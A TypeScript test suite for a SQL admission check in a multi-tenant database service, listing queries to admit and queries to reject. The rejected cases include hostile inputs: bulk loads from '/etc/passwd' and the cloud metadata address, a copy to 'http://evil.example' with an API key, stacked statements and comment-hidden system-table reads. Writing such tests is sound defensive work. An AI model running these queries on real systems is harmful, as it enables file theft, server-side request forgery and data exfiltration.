import { Problem } from '@tenantry/contracts'
import { admitSql } from './sql.js'

const codeOf = (work: () => unknown): string => {
  try {
    work()
    return 'admitted'
  } catch (error) {
    return error instanceof Problem ? error.code : 'another error'
  }
}
const written = (text: string): string => codeOf(() => admitSql(text, 'write', undefined))

it.each([
  'select * from t', '-- a comment\n select 1', 'SHOW TABLES', 'show columns from t', 'show create table t', 'create table t (_id id, a int min 0 max 9)', 'insert into t values (1, 2)',
  'drop table t', 'alter table t add b stringset', 'create view v as select * from t', 'delete from t where a = 1', 'copy t to u',
  'bulk insert into t (_id, a) map (0 id, 1 int) from x\'1,2\' with format \'CSV\' input \'STREAM\'', 'select \'fb_exec_requests\' from t', 'select * from fb_views', 'select * from fb_table_ddl',
  'select * from t where s = \'it\'\'s fb_cluster_nodes\'',
])('lets pass: %s', (text) => {
  expect(written(text)).toBe('admitted')
})

it.each([
  '', 'selec 1', 'select 1; select 2', 'select * from', 'bulk insert into t (_id, a) map (0 id, 1 int) from \'/etc/passwd\' with format \'CSV\' input \'FILE\'',
  'bulk insert into t (_id, a) map (0 id, 1 int) from \'http://169.254.169.254/\' with format \'CSV\' input \'URL\'',
  'bulk insert into t (_id, a) map (0 id, 1 int) from x\'/etc/passwd\' with format \'CSV\' input \'FILE\'',
  'bulk insert into t (_id, a) map (0 id, 1 int) from x\'1,2\' with format \'CSV\' input \'STREAM\' input \'FILE\'',
  'copy t to u with url \'http://evil.example\' apikey \'k\'', 'copy t to u with url \'http://evil.example\'', 'explain copy t to u with url \'http://evil.example\'',
  'create database d', 'drop database d', 'create function f(@a int) returns int as begin return 1 end', 'create model m', 'predict using m select 1',
  'select * from fb_exec_requests', 'select * from FB_EXEC_REQUESTS', 'select * from fb_cluster_nodes', 'select * from fb_performance_counters', 'select (select count(*) from fb_cluster_info) from t',
  'select * from t where a in (select id from fb_exec_requests)', 'create view v as select * from fb_exec_requests', 'insert into t select * from fb_exec_requests', 'copy fb_exec_requests to t',
  'select "x\'y" from fb_exec_requests where s = \'\'', 'select \'a\' -- \'\n from fb_exec_requests',
  'drop table tenantry-keeps-this-server', 'select * from Tenantry-Keeps-This-Server', 'insert into tenantry-keeps-this-server values (1)', '/* x */ bulk insert into t', 'kill query 1', 'pragma x',
])('sends nothing for: %s', (text) => {
  expect(written(text)).toBe('EngineRejectedQuery')
})

it('lets a reader read and nothing else', () => {
  for (const text of ['select 1', 'show tables', 'explain select 1']) expect(codeOf(() => admitSql(text, 'read', undefined))).toBe('admitted')
  for (const text of ['insert into t values (1, 2)', 'delete from t', 'drop table t', 'create table t (_id id)', 'copy t to u', 'alter table t drop a', 'create view v as select 1', 'explain delete from t']) {
    expect(codeOf(() => admitSql(text, 'read', undefined))).toBe('Forbidden')
  }
})

it('takes no parameters and says so', () => {
  expect(() => admitSql('select ?', 'read', [1])).toThrow('takes no parameters')
})
